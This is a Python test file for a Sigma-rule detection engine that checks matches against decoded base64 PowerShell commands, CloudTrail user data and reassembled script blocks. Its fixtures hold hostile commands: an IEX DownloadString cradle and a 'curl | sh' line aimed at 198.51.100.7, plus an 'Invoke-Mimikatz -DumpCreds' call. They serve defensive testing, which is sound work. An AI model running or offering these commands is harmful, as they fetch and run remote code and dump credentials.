"""Rules on decoded text: one whole evaluation per variant, one finding per record, and the reason says which."""

from __future__ import annotations

import base64
import json
from typing import Any

import pyarrow as pa
from sigma_helpers import batch, compiled

from casemate.decode.columns import ENCODED
from casemate.detect.sigma.decoding import decoded_fields, decoded_rows
from casemate.detect.sigma.kernel import SigmaMatches, findings_of
from casemate.detect.sigma.match import TableMatcher
from casemate.detect.sigma.script_blocks import whole_blocks
from casemate.detect.sigma.variants import (
    DETECTOR,
    FOUND,
    as_found,
    decoded_findings,
    decoded_matches,
    decoded_texts,
    split_found,
    together,
)
from casemate.limits import Limits
from casemate.schema.findings import finding_id

LIMITS = Limits()
PROCESS = {"category": "process_creation", "product": "windows"}
SCRIPT = {"category": "ps_script", "product": "windows"}
DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
RULE = "00000000-0000-4000-8000-000000000000"


def encoded(text: str) -> str:
    return f"powershell.exe -nop -enc {base64.b64encode(text.encode('utf-16-le')).decode()}"


def process(command: str | None, **others: str) -> dict[str, Any]:
    image = "C:\\Windows\\powershell.exe"
    return {
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": "1",
        "Image": image,
        "CommandLine": command,
    } | others


def rule(source: dict[str, str], condition: str = "selection", **parts: Any) -> dict[str, Any]:
    return {"logsource": source, "detection": {**parts, "condition": condition}, "level": "high"}


def on_decoded(document: dict[str, Any], *records: dict[str, Any]) -> list[dict[str, Any]]:
    matcher, given = TableMatcher(compiled(document), "windows_event"), batch(records)
    decoded = list(decoded_fields(given, ENCODED["windows_event"], LIMITS))
    return decoded_findings(matcher, given, decoded).to_pylist()


def test_a_rule_matches_the_decoded_command_and_the_reason_says_what_was_decoded() -> None:
    document = rule(PROCESS, selection={"Image|endswith": "\\powershell.exe", "CommandLine|contains": "DownloadString"})
    (found,) = on_decoded(document, process("notepad"), process(encoded(DOWNLOAD)))
    assert found["id"] == finding_id(RULE, [("e" * 64, 2)])
    assert found["records"] == [{"evidence": "e" * 64, "record": 2}]
    assert found["detector"] == DETECTOR == "sigma_decoded"
    plain = TableMatcher(compiled(document), "windows_event")
    (recorded,) = findings_of(plain, batch([process(DOWNLOAD)])).to_pylist()
    assert (recorded["confidence"], found["confidence"]) in {("high", "medium"), ("medium", "low"), ("low", "low")}
    why = json.loads(found["why"])
    assert why["variant"] == {
        "field": "CommandLine",
        "depth": 1,
        "steps": ["base64", "utf-16le"],
        "text": DOWNLOAD,
        "recorded": encoded(DOWNLOAD),
    }
    assert why["because"]["because"]["all"][1]["value"] == DOWNLOAD


def test_parts_of_the_recorded_and_the_decoded_text_never_combine() -> None:
    both = {"CommandLine|contains|all": ["-enc ", "DownloadString"]}
    assert not on_decoded(rule(PROCESS, selection=both), process(encoded(DOWNLOAD)))


def test_parts_of_two_decoded_fields_never_combine() -> None:
    both = {"CommandLine|contains": "whoami", "ParentCommandLine|contains": "DownloadString"}
    record = process(encoded("whoami /all"), ParentCommandLine=encoded(DOWNLOAD))
    assert not on_decoded(rule(PROCESS, selection=both), record)


def test_parts_of_two_layers_never_combine() -> None:
    outer = f"$secret = 1; {encoded(DOWNLOAD)}"
    both = {"CommandLine|contains|all": ["$secret", "DownloadString"]}
    assert not on_decoded(rule(PROCESS, selection=both), process(encoded(outer)))
    (found,) = on_decoded(rule(PROCESS, selection={"CommandLine|contains": "DownloadString"}), process(encoded(outer)))
    assert json.loads(found["why"])["variant"]["depth"] == 2


def test_a_record_that_matches_as_recorded_is_no_second_finding() -> None:
    anything = rule(PROCESS, selection={"CommandLine|contains": ["powershell", "DownloadString"]})
    assert not on_decoded(anything, process(encoded(DOWNLOAD)))


def test_a_record_with_two_variants_that_match_is_one_finding() -> None:
    (found,) = on_decoded(
        rule(PROCESS, selection=[{"CommandLine|contains": "whoami"}, {"ParentCommandLine|contains": "DownloadString"}]),
        process(encoded("whoami /all"), ParentCommandLine=encoded(DOWNLOAD)),
    )
    assert json.loads(found["why"])["variant"]["field"] == "CommandLine"


def test_an_exclusion_that_goes_away_is_no_finding() -> None:
    document = rule(
        PROCESS,
        "selection and not filter",
        selection={"Image|endswith": "\\powershell.exe"},
        filter={"CommandLine|startswith": "powershell.exe"},
    )
    assert not on_decoded(document, process(encoded(DOWNLOAD)))


def test_an_exclusion_of_the_decoded_text_holds() -> None:
    document = rule(
        PROCESS,
        "selection and not filter",
        selection={"CommandLine|contains": "DownloadString"},
        filter={"CommandLine|contains": "198.51.100."},
    )
    assert not on_decoded(document, process(encoded(DOWNLOAD)))


def test_keywords_are_looked_for_in_decoded_text() -> None:
    document = rule({"product": "windows"}, "keywords", keywords=["DownloadString"])
    (found,) = on_decoded(document, process(encoded(DOWNLOAD)), process("DownloadString"))
    assert found["records"][0]["record"] == 1


def test_matches_for_correlations_come_with_the_values_of_the_record() -> None:
    document = rule(PROCESS, selection={"CommandLine|contains": "DownloadString"})
    matcher, given = (
        TableMatcher(compiled(document), "windows_event"),
        batch([process(None), process(encoded(DOWNLOAD))]),
    )
    schema = SigmaMatches("", "windows_event", (), ("Image",)).schema()
    decoded = decoded_fields(given, ENCODED["windows_event"], LIMITS)
    (match,) = decoded_matches(matcher, given, decoded, ("Image",), schema).to_pylist()
    assert (match["rule"], match["record"], match["value_0"]) == (RULE, 2, "C:\\Windows\\powershell.exe")


def test_every_decoded_text_is_a_row_with_its_record() -> None:
    given = batch([process("x"), process(encoded(DOWNLOAD)), process(encoded(DOWNLOAD)), process("y")])
    rows = decoded_rows(given, list(decoded_fields(given, ENCODED["windows_event"], LIMITS))).to_pylist()
    assert [(row["record"], row["field"], row["depth"], row["text"]) for row in rows] == [
        (2, "CommandLine", 1, DOWNLOAD),
        (3, "CommandLine", 1, DOWNLOAD),
    ]
    assert rows[0]["steps"] == ["base64", "utf-16le"]
    assert rows[0]["limit_hit"] is None


def test_host_application_is_decoded_where_the_process_is_told_of() -> None:
    data = f"HostName=ConsoleHost\n\tHostApplication={encoded(DOWNLOAD)}\n\tEngineVersion=5.1"
    events = [{"Channel": "Windows PowerShell", "EventID": number, "Data": data} for number in ("400", "999")]
    given = batch(events)
    rows = decoded_rows(given, list(decoded_fields(given, ENCODED["windows_event"], LIMITS))).to_pylist()
    assert [(row["record"], row["text"]) for row in rows] == [(1, DOWNLOAD)]


def test_user_data_in_a_request_is_a_field_of_its_own() -> None:
    script = base64.b64encode(b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n").decode()
    record = {"eventName": "ModifyInstanceAttribute", "requestParameters": json.dumps({"userData": {"value": script}})}
    source = {"product": "aws", "service": "cloudtrail"}
    document = rule(source, selection={"requestParameters.userData|contains": "curl http"})
    matcher, given = TableMatcher(compiled(document), "cloudtrail"), batch([record])
    decoded = list(decoded_fields(given, ENCODED["cloudtrail"], LIMITS))
    assert decoded_findings(matcher, given, decoded).num_rows == 1


# --- script blocks ---------------------------------------------------------------------------------------


def parts(*texts: str, total: int | None = None, first: int = 1, block: str = "b1") -> list[dict[str, Any]]:
    return [
        {
            "Channel": "Microsoft-Windows-PowerShell/Operational",
            "Provider_Name": "Microsoft-Windows-PowerShell",
            "EventID": "4104",
            "Computer": "ws1",
            "ScriptBlockId": block,
            "MessageNumber": str(number),
            "MessageTotal": str(total or len(texts)),
            "ScriptBlockText": text,
        }
        for number, text in enumerate(texts, first)
    ]


def whole(document: dict[str, Any], records: list[dict[str, Any]]) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    matcher = TableMatcher(compiled(document), "windows_event")

    def run(given: pa.RecordBatch) -> pa.RecordBatch:
        decoded = list(decoded_fields(given, ENCODED["windows_event"], LIMITS))
        found = [
            as_found(findings_of(matcher, given)),
            as_found(decoded_findings(matcher, given, decoded)),
            decoded_texts(given, decoded),
        ]
        return together(found, FOUND)

    return whole_blocks(batch(records), run, 1 << 20)


def test_a_word_across_the_cut_is_found_in_the_whole_block() -> None:
    document = rule(SCRIPT, selection={"ScriptBlockText|contains": "Invoke-Mimikatz"})
    (found,), (text,) = whole(document, parts("$x = 1; Invoke-Mimi", "katz -DumpCreds"))
    assert found["records"] == [{"evidence": "e" * 64, "record": 1}, {"evidence": "e" * 64, "record": 2}]
    assert found["id"] == finding_id(RULE, [("e" * 64, 1), ("e" * 64, 2)])
    assert found["time"] < found["time_end"]
    variant = json.loads(found["why"])["variant"]
    assert (variant["steps"], variant["parts"], variant["of"]) == (["script-block"], 2, 2)
    assert "limit_hit" not in variant
    assert text["text"] == "$x = 1; Invoke-Mimikatz -DumpCreds"
    assert (text["record"], text["limit_hit"]) == (1, None)


def test_parts_in_any_order_and_received_twice_give_the_same_block() -> None:
    document = rule(SCRIPT, selection={"ScriptBlockText|contains": "Invoke-Mimikatz"})
    first, second = parts("Invoke-Mimi", "katz")
    for records in ([second, first], [first, second, first, second]):
        (found,), (text,) = whole(document, records)
        assert text["text"] == "Invoke-Mimikatz"
        assert len(found["records"]) == 2


def test_a_missing_part_is_said_and_what_it_parts_is_not_joined() -> None:
    document = rule(SCRIPT, selection={"ScriptBlockText|contains": "Invoke-Mimikatz"})
    records = parts("Invoke-Mimi", "x", "katz", "end", total=6)
    del records[1]
    found, (text,) = whole(document, records)
    assert not found
    assert text["limit_hit"] == "parts 2, 5-6 of 6 are missing"


def test_what_a_part_shows_alone_is_not_found_again_in_the_block() -> None:
    document = rule(SCRIPT, selection={"ScriptBlockText|contains": "Mimikatz"})
    found, _ = whole(document, parts("Invoke-Mimikatz", "more"))
    assert not found


def test_blocks_of_two_hosts_with_one_id_stay_apart() -> None:
    document = rule(SCRIPT, selection={"ScriptBlockText|contains": "Invoke-Mimikatz"})
    first, second = parts("Invoke-Mimi", "katz")
    found, texts = whole(document, [first, second | {"Computer": "ws2"}])
    assert not found
    assert [text["limit_hit"] for text in texts] == ["parts 2 of 2 are missing", "parts 1 of 2 are missing"]


def test_what_is_encoded_across_parts_is_decoded_in_the_whole() -> None:
    text = base64.b64encode(DOWNLOAD.encode()).decode()
    document = rule(SCRIPT, selection={"ScriptBlockText|contains": "DownloadString"})
    (found,), texts = whole(document, parts(f"iex (FromBase64String('{text[:54]}", f"{text[54:]}'))"))
    assert json.loads(found["why"])["variant"]["steps"] == ["script-block", "base64"]
    assert [row["text"] for row in texts if row["steps"][1:]] == [DOWNLOAD]


def test_findings_and_texts_come_apart_again() -> None:
    document = rule(PROCESS, selection={"CommandLine|contains": "DownloadString"})
    given = batch([process(encoded(DOWNLOAD)), process("DownloadString")])
    matcher = TableMatcher(compiled(document), "windows_event")
    decoded = list(decoded_fields(given, ENCODED["windows_event"], LIMITS))
    found = [as_found(findings_of(matcher, given)), decoded_texts(given, decoded)]
    findings, texts = split_found(together(found, FOUND))
    assert findings.column("detector").to_pylist() == ["sigma"]
    assert texts.column("text").to_pylist() == [DOWNLOAD]
